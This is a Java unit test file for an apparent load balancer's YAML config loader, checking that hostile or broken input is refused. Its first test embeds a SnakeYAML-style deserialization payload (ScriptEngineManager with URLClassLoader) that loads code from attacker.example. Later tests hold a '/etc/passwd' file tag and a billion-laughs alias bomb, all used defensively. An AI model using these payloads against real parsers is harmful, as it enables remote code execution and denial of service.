package io.wavelb.config;

import static io.wavelb.config.Yamls.VALID;
import static io.wavelb.config.Yamls.problems;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile or broken input is refused as problems: nothing is constructed, nothing else is thrown. */
class SafeLoadingTest {

    @TempDir
    Path dir;

    @Test
    void classInstantiatingGlobalTagIsRefusedNotConstructed() {
        String exploit = "admin: !!javax.script.ScriptEngineManager "
                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n" + VALID;

        assertThat(problems(exploit)).containsExactly(
                "cfg.yaml:1:8: tag '!!javax.script.ScriptEngineManager' is not allowed (wavelb configs are plain YAML: no tags)");
    }

    @Test
    void verbatimGlobalTagIsRefused() {
        assertThat(problems("admin: !<tag:yaml.org,2002:java.io.File> /etc/passwd\n")).containsExactly(
                "cfg.yaml:1:8: tag '!!java.io.File' is not allowed (wavelb configs are plain YAML: no tags)");
    }

    @Test
    void standardButUnusedTagsAndLocalTagsAreRefused() {
        assertThat(problems(VALID.replace("listen: 127.0.0.1:9901", "listen: !!binary MTI3LjAuMC4xOjk5MDE=")))
                .containsExactly("cfg.yaml:2:11: admin.listen: tag '!!binary' is not allowed (wavelb configs are plain YAML: no tags)");
        assertThat(problems(VALID.replace("admin:\n", "admin: !!set\n")))
                .containsExactly("cfg.yaml:1:8: admin: tag '!!set' is not allowed (wavelb configs are plain YAML: no tags)");
        assertThat(problems(VALID.replace("listen: 127.0.0.1:9901", "listen: !local 127.0.0.1:9901")))
                .containsExactly("cfg.yaml:2:11: admin.listen: tag '!local' is not allowed (wavelb configs are plain YAML: no tags)");
    }

    @Test
    void billionLaughsAliasBombIsRefusedQuickly() {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char previous = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(9, "*" + previous))).append("]\n");
        }

        List<String> problems = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> problems(bomb.toString()));

        assertThat(problems).containsExactly(
                "cfg.yaml:1:1: rejected YAML: Number of aliases for non-scalar nodes exceeds the specified max=20");
    }

    @Test
    void selfReferencingAliasDoesNotLoop() {
        List<String> problems = assertTimeoutPreemptively(Duration.ofSeconds(5),
                () -> problems("listeners: &l [*l]\ntarget_groups: []\n"));

        assertThat(problems).containsExactly("cfg.yaml:1:12: listeners[0]: expected a mapping, got a list");
    }

    @Test
    void deepNestingIsRefused() {
        assertThat(problems("a: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n"))
                .singleElement().asString().startsWith("cfg.yaml:1:1: rejected YAML: Nesting Depth exceeded");
    }

    @Test
    void oversizedStringIsRefusedBeforeParsing() {
        String huge = VALID + "#" + "x".repeat(ConfigLoader.MAX_FILE_BYTES) + "\n";

        assertThat(problems(huge)).containsExactly("cfg.yaml:1:1: config is larger than 4194304 characters");
    }

    @Test
    void oversizedFileIsRefusedBeforeParsing() throws IOException {
        Path file = dir.resolve("huge.yaml");
        Files.writeString(file, VALID + "#" + "x".repeat(ConfigLoader.MAX_FILE_BYTES) + "\n");

        assertThatExceptionOfType(ConfigException.class).isThrownBy(() -> ConfigLoader.load(file))
                .satisfies(e -> assertThat(e.problems()).extracting(Problem::format)
                        .containsExactly(file + ":1:1: file is larger than 4194304 bytes"));
    }

    @Test
    void fileProblemsNameTheFileAsGiven() throws IOException {
        Path file = dir.resolve("bad.yaml");
        Files.writeString(file, VALID.replace("0.0.0.0:7443", "0.0.0.0:70000"));

        assertThatExceptionOfType(ConfigException.class).isThrownBy(() -> ConfigLoader.load(file))
                .satisfies(e -> assertThat(e.problems()).extracting(Problem::format).containsExactly(
                        file + ":12:13: listeners[1].listen: '0.0.0.0:70000': port 70000 (expected 1..65535)"));
    }

    @Test
    void invalidUtf8IsAProblem() throws IOException {
        Path file = dir.resolve("latin1.yaml");
        Files.write(file, new byte[] {'a', ':', ' ', (byte) 0xE9, '\n'});

        assertThatExceptionOfType(ConfigException.class).isThrownBy(() -> ConfigLoader.load(file))
                .satisfies(e -> assertThat(e.problems()).extracting(Problem::format)
                        .containsExactly(file + ":1:1: file is not valid UTF-8"));
    }

    @Test
    void missingFileIsAnIoExceptionNotAConfigProblem() {
        assertThatExceptionOfType(IOException.class).isThrownBy(() -> ConfigLoader.load(dir.resolve("absent.yaml")));
    }

    @Test
    void emptyFileIsAProblem() {
        assertThat(problems("")).containsExactly(
                "cfg.yaml:1:1: empty config (expected a mapping with listeners and target_groups)");
        assertThat(problems("# just a comment\n")).containsExactly(
                "cfg.yaml:1:1: empty config (expected a mapping with listeners and target_groups)");
        assertThat(problems("---\n")).containsExactly(
                "cfg.yaml:1:1: empty config (expected a mapping with listeners and target_groups)");
    }

    @Test
    void secondDocumentIsAProblem() {
        assertThat(problems(VALID + "---\nadmin: {}\n")).containsExactly(
                "cfg.yaml:23:1: a second YAML document (expected exactly one; remove the '---')");
    }

    @Test
    void scalarDocumentIsNotAConfig() {
        assertThat(problems("hello\n")).containsExactly("cfg.yaml:1:1: expected a mapping, got 'hello'");
    }

    @Test
    void mergeKeysAreRefused() {
        assertThat(problems("defaults: &d {protocol: udp}\n" + VALID.replace("  - name: media\n    protocol: udp\n", "  - <<: *d\n    name: media\n")))
                .contains("cfg.yaml:1:1: unknown key 'defaults' (expected one of: admin, runtime, flow_log, listeners, target_groups, agent)",
                        "cfg.yaml:5:5: listeners[0]: merge keys ('<<') are not supported (write the keys out)");
    }

    @Test
    void aFloodOfProblemsIsCutShortWithACount() {
        String yaml = VALID + "x: 1\n".repeat(300);

        List<String> problems = problems(yaml);

        assertThat(problems).hasSize(Problems.MAX_REPORTED + 1);
        assertThat(problems.get(Problems.MAX_REPORTED)).isEqualTo("cfg.yaml:222:1: and 100 more problems from here on");
    }

    @Test
    void byteOrderMarkIsIgnored() throws Exception {
        assertThat(Yamls.parse("\uFEFF" + VALID).listeners()).hasSize(2);
    }
}
